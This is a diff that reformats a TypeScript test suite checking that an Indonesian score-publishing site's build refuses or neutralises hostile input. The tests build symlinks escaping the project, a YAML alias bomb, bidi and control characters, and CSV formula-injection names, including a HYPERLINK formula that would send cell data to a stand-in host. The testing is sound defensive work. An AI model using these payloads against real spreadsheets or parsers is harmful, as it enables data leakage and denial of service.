@@ -28,7 +28,13 @@ interface Ran {
 }
 
 async function command(file: string, args: string[], options: { env?: Record<string, string>; uid?: number } = {}): Promise<Ran> {
-  const opts = { cwd: REPO, env: { ...process.env, ...options.env }, timeout: 120_000, maxBuffer: 64 * 1024 * 1024, ...(options.uid === undefined ? {} : { uid: options.uid, gid: options.uid }) };
+  const opts = {
+    cwd: REPO,
+    env: { ...process.env, ...options.env },
+    timeout: 120_000,
+    maxBuffer: 64 * 1024 * 1024,
+    ...(options.uid === undefined ? {} : { uid: options.uid, gid: options.uid }),
+  };
   let out: { stdout: string; stderr: string; code: number };
   try {
     out = { ...(await run(file, args, opts)), code: 0 };
@@ -102,7 +108,10 @@ describe.concurrent('hostile and broken input: npm run check and build', () => {
     const s = site();
     symlinkSync('hilang.csv', join(s.root, 'data/scores/2024.csv'));
     symlinkSync('2025.csv', join(s.root, 'data/scores/2025.csv'));
-    await expectRefused(s, [/^data\/scores\/2024\.csv: tautan simbolik \(symlink\) ini menunjuk ke "hilang\.csv", yang tidak ada/m, /^data\/scores\/2025\.csv: tautan simbolik \(symlink\) berputar/m]);
+    await expectRefused(s, [
+      /^data\/scores\/2024\.csv: tautan simbolik \(symlink\) ini menunjuk ke "hilang\.csv", yang tidak ada/m,
+      /^data\/scores\/2025\.csv: tautan simbolik \(symlink\) berputar/m,
+    ]);
   });
 
   it('links out of the project are refused, naming the link; their content is never published', async () => {
@@ -114,7 +123,10 @@ describe.concurrent('hostile and broken input: npm run check and build', () => {
     writeFileSync(join(outside, 'halaman', 'bocor.md'), '---\ntitle: Bocor\n---\n\nRAHASIA-LUAR-PROYEK\n');
     symlinkSync(join(outside, 'rahasia.md'), join(s.root, 'content/regions/rahasia.md'));
     symlinkSync(join(outside, 'halaman'), join(s.root, 'content/pages'));
-    const problems = await expectRefused(s, [/^content\/regions\/rahasia\.md: tautan simbolik \(symlink\) ini menunjuk ke luar folder proyek/m, /^content\/pages: tautan simbolik \(symlink\) ini menunjuk ke luar folder proyek/m]);
+    const problems = await expectRefused(s, [
+      /^content\/regions\/rahasia\.md: tautan simbolik \(symlink\) ini menunjuk ke luar folder proyek/m,
+      /^content\/pages: tautan simbolik \(symlink\) ini menunjuk ke luar folder proyek/m,
+    ]);
     expect(problems.join('\n')).not.toContain('RAHASIA');
   });
 
@@ -195,7 +207,10 @@ describe.concurrent('hostile and broken input: npm run check and build', () => {
     const s = site();
     const lol = `[${Array(9).fill('"lol"').join(', ')}]`;
     const levels = 'bcdefghi'.split('').map((n, i) => `${n}: &${n} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(', ')}]`);
-    writeFileSync(join(s.root, 'content/rounds/2021.md'), ['---', 'title: Penilaian 2021', `a: &a ${lol}`, ...levels, 'bands: *i', '---', '', 'Narasi.', ''].join('\n'));
+    writeFileSync(
+      join(s.root, 'content/rounds/2021.md'),
+      ['---', 'title: Penilaian 2021', `a: &a ${lol}`, ...levels, 'bands: *i', '---', '', 'Narasi.', ''].join('\n'),
+    );
     const started = performance.now();
     const { ok } = checkInputs(s.root);
     expect(performance.now() - started).toBeLessThan(1000);
@@ -211,7 +226,13 @@ describe.concurrent('hostile and broken input: npm run check and build', () => {
 
   it('control characters, bidi overrides and zero-width characters are errors at file:line', async () => {
     const s = site();
-    edit(s.root, 'data/regions.csv', (t) => t.replace('Majalengka', 'Maja\x1b[31mlengka').replace('Banjarmasin', 'Banjar\u202emasin').replace('Kalimantan Selatan', 'Kalimantan\u200b Selatan').replace('Jawa Barat', 'Jawa\x85Barat'));
+    edit(s.root, 'data/regions.csv', (t) =>
+      t
+        .replace('Majalengka', 'Maja\x1b[31mlengka')
+        .replace('Banjarmasin', 'Banjar\u202emasin')
+        .replace('Kalimantan Selatan', 'Kalimantan\u200b Selatan')
+        .replace('Jawa Barat', 'Jawa\x85Barat'),
+    );
     edit(s.root, 'content/rounds/2021.md', (t) => t.replace('title: Penilaian Kepatuhan 2021', 'title: "Penilaian\\u202e 2021"'));
     const problems = await expectRefused(s, [
       /^data\/regions\.csv:2: kolom name: berisi karakter kendali U\+0085/m,
@@ -233,7 +254,10 @@ describe.concurrent('hostile and broken input: npm run check and build', () => {
   it('a 5 MB value is not echoed whole: quoted values are cut to about 80 characters', async () => {
     const s = site();
     edit(s.root, 'data/scores/2021.csv', (t) => t.replace('77', `7${'x'.repeat(5 * 1024 * 1024)}`));
-    const problems = await expectRefused(s, [/^data\/scores\/2021\.csv:4: kolom score: terlalu panjang/m, /^data\/scores\/2021\.csv:4: kolom score: "7x{78}…" bukan angka/m]);
+    const problems = await expectRefused(s, [
+      /^data\/scores\/2021\.csv:4: kolom score: terlalu panjang/m,
+      /^data\/scores\/2021\.csv:4: kolom score: "7x{78}…" bukan angka/m,
+    ]);
     for (const line of problems) expect(line.length).toBeLessThan(400);
   });
 });
@@ -264,7 +288,8 @@ describe.concurrent('CSV downloads of a real build', () => {
       ['Jawa Barat', '-Jawa Barat'],
       ['Kalimantan Selatan', '@Kalimantan Selatan'],
     ];
-    for (const file of ['data/regions.csv', 'data/scores/2019.csv', 'data/scores/2021.csv']) edit(s.root, file, (t) => names.reduce((text, [from, to]) => text.replaceAll(from, to), t));
+    for (const file of ['data/regions.csv', 'data/scores/2019.csv', 'data/scores/2021.csv'])
+      edit(s.root, file, (t) => names.reduce((text, [from, to]) => text.replaceAll(from, to), t));
     const out = join(s.root, 'terbit');
     const r = await npm('build', [out], { SITE_DATA: s.root });
     expect(r.code, r.text).toBe(0);
@@ -283,6 +308,8 @@ describe.concurrent('CSV downloads of a real build', () => {
     }
     expect(prefixed).toBeGreaterThanOrEqual(4 * 3); // each hostile name, in each file that lists it (at least the two rounds and semua.csv)
     const json = JSON.parse(readFileSync(join(out, 'data/2021.json'), 'utf8')) as { results: { name: string }[] };
-    expect(json.results.map((x) => x.name)).toEqual(expect.arrayContaining(['=HYPERLINK("http://x.example/?"&A1;"klik")', '+62 Banjarmasin', '-Jawa Barat', '@Kalimantan Selatan']));
+    expect(json.results.map((x) => x.name)).toEqual(
+      expect.arrayContaining(['=HYPERLINK("http://x.example/?"&A1;"klik")', '+62 Banjarmasin', '-Jawa Barat', '@Kalimantan Selatan']),
+    );
   });
 });
